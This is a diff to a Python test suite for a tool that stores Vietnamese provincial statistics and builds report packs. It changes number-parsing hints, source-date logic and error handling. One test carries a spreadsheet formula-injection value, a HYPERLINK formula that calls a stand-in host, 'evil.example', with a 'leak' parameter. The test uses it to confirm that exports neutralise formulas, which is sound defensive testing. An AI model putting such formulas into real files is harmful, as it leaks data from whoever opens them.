@@ -225,7 +225,7 @@ R4 = dict(R1, indicator="dossiers_online_province_pct", value="98.7",
 LOCK = ".dtlib.lock"
 
 VALUE_HINT = ("write the value as the quote states it, read the Vietnamese way (1.761 is 1761, 98,7 is 98.7; "
-              "--decimal , reads such cells); a share stays a percentage (85, not 0.85); for a value derived by "
+              "a source in English is read the English way, 1,086 is 1086; --decimal , reads such cells); a share stays a percentage (85, not 0.85); for a value derived by "
               "arithmetic start the note with 'computed:' and show it")
 MISSING_HINT = "the header must name: unit, indicator, as_of, period, value, qualifier, source, quote, note"
 
@@ -329,9 +329,10 @@ def test_A01_dry_run_writes_nothing_add_writes_and_adding_again_skips_every_row(
     assert code == 0 and out.strip() == (f"{good}: added 0 observations row(s), replaced 0, skipped 4 identical; "
                                          "sources: 0 new, 1 identical")
     again = snapshot(store)
-    assert {k for k in again if again[k] != after.get(k)} == {Path("changes.csv")}
+    # an add that changes nothing writes nothing, not even a row of changes.csv (issue 19)
+    assert {k for k in again if again[k] != after.get(k)} == set()
     log = stored(store, "changes.csv").iloc[-1]
-    assert (log["added"], log["skipped"], log["sources_skipped"]) == ("0", "4", "1")
+    assert (log["added"], log["skipped"], log["sources_skipped"]) == ("4", "0", "0")
     assert code == 0 and cli(capsys, "validate", "--data", store)[0] == 0
 
 
@@ -1031,13 +1032,15 @@ def test_C4_formulas_in_the_data_reach_no_exported_csv_as_live_cells(store, tmp_
         [(2, "period"), (3, "period"), (4, "period")]
 
     hyperlink = '=HYPERLINK("http://evil.example/?leak=1","bấm vào đây")'
+    COMPUTED = "computed: a test figure; the quote, a formula, states none"
     rows = [dict(R1, note=FORMULAS[3]), dict(R2, note=FORMULAS[4]), dict(R3, note=FORMULAS[1]),
-            dict(R2, as_of="2023-03-31", period="quý I/2023", value="1", quote=hyperlink, note=FORMULAS[0])]
+            # a quote that is a formula states no number (second probe, Q05): the value is marked computed
+            dict(R2, as_of="2023-03-31", period="quý I/2023", value="1", quote=hyperlink, note=COMPUTED)]
     change = add(write_csv(tmp_path / "evil.csv", rows), store, sources_file=sources)
     assert len(change.added) == 4
     data = dtlib.load(store)
     kept = data.observations[data.observations["source"] == "rel-test"]
-    assert set(kept["note"]) == {FORMULAS[3], FORMULAS[4], FORMULAS[1], FORMULAS[0]}    # the store keeps the text
+    assert set(kept["note"]) == {FORMULAS[3], FORMULAS[4], FORMULAS[1], COMPUTED}    # the store keeps the text
 
     figures = known_observations(data, "2023-09-30")
     exported = {"pack_observations": export_csv(figures), "sources": export_csv(data.sources)}
@@ -1088,14 +1091,16 @@ def test_C7_data_and_out_paths_reach_the_notebook_as_exactly_those_strings(shipp
     translator and executed: they assign exactly the strings given, and run nothing."""
     from papermill.translators import translate_parameters
 
-    from dtlib.report import plan
+    from dtlib.report import plan, recorded_data_dir, recorded_folder
 
     monkeypatch.chdir(tmp_path)
     jobs = plan(shipped, as_of="2023-09-30", units=["lai-chau"], data_dir=hostile)
     assert len(jobs) == 5
     for job in jobs:
         params = {**job.parameters, "out_dir": hostile + "/files"}     # as run_job adds it
-        assert params["data_dir"] == str(Path(hostile).resolve())
+        # recorded relative to the repository (probe 2, R10), naming the folder given
+        assert params["data_dir"] == recorded_data_dir(hostile) and recorded_folder(params["data_dir"]) == Path(
+            hostile).resolve()
         code = translate_parameters("python3", "python", params, "Injected parameters")
         namespace: dict = {}
         exec(compile(code, "<injected-parameters>", "exec"), {"__builtins__": {}}, namespace)
@@ -1217,8 +1222,8 @@ def independent_attainment(root: Path, when: str) -> pd.DataFrame:
       not before their first day, ``basis``). Of the vintages of one unit, indicator and date
       (history.csv keeps replaced ones) the one known last counts; on a tie, the current row.
     - A target applies when its source was published by ``when``. An undated source's targets
-      apply, unless the source states figures dated after ``when`` (it cannot have been
-      published before them); see test_D8 for the case where dtlib disagrees.
+      apply, unless the source states figures dated after ``when``, or its ``not_before`` (the
+      latest day its text names) is after ``when`` (it cannot have been published before them); see test_D8 for the case where dtlib disagrees.
     - Units: every unit that exists on ``when`` and has a known figure or a target of its own,
       and the nation. Target: the unit's own, else its parent's, else the nation's; among them
       the nearest deadline on or after ``when``, else the last.
@@ -1241,7 +1246,10 @@ def independent_attainment(root: Path, when: str) -> pd.DataFrame:
     obs["as_of"] = _dates(obs["as_of"])
     obs["value"] = obs["value"].astype(float)
     basis = _dates(obs["basis"]) if "basis" in obs else pd.Series(pd.NaT, obs.index)
-    known_on = pd.concat([obs["as_of"], obs["source"].map(published), basis], axis=1).max(axis=1)
+    not_before_of = (dict(zip(sources["id"], _dates(sources["not_before"]))) if "not_before" in sources
+                     else {})
+    known_on = pd.concat([obs["as_of"], obs["source"].map(published), obs["source"].map(not_before_of), basis],
+                         axis=1).max(axis=1)
     obs = obs[(obs["as_of"] <= day) & (known_on <= day)].assign(known_on=known_on)
     obs = (obs.sort_values(["known_on", "current"])
               .drop_duplicates(["unit", "indicator", "as_of"], keep="last"))
@@ -1251,7 +1259,10 @@ def independent_attainment(root: Path, when: str) -> pd.DataFrame:
     targets = targets.assign(deadline=_dates(targets["deadline"]), value=targets["value"].astype(float),
                              order=range(len(targets)))
     target_published = targets["source"].map(published)
-    undated_but_later = target_published.isna() & (targets["source"].map(latest_figure) > day)
+    not_before = (dict(zip(sources["id"], _dates(sources["not_before"]))) if "not_before" in sources
+                  else {})
+    undated_but_later = target_published.isna() & ((targets["source"].map(latest_figure) > day)
+                                                   | (targets["source"].map(not_before) > day))
     targets = targets[((target_published <= day) | target_published.isna()) & ~undated_but_later]
 
     start, end = _dates(units["valid_from"]), _dates(units["valid_to"])
@@ -1381,3 +1392,13 @@ def test_D8_targets_of_an_undated_source_do_not_apply_before_the_figures_it_repo
     assert "kinhtedothi-2025-01-toan-trinh-2024" in late
     used = set(attainment_on(shipped, when)["target_source"])
     assert not used & late, sorted(used & late)
+
+
+def test_R08_previous_that_is_not_a_pack_is_refused_in_one_line(capsys, tmp_path):
+    # issue 19 (and probe 2, R08): --previous given a folder that does not exist, or one that no report wrote, was accepted silently
+    code, out, err = cli(capsys, "report", "--out", tmp_path / "pack", "--previous", tmp_path / "nowhere")
+    assert code == 2 and f"--previous {tmp_path / 'nowhere'}: no such folder" in err
+    (tmp_path / "plain").mkdir()
+    code, out, err = cli(capsys, "report", "--out", tmp_path / "pack", "--previous", tmp_path / "plain")
+    assert code == 2 and "not a briefing pack" in err
+    assert not (tmp_path / "pack").exists()
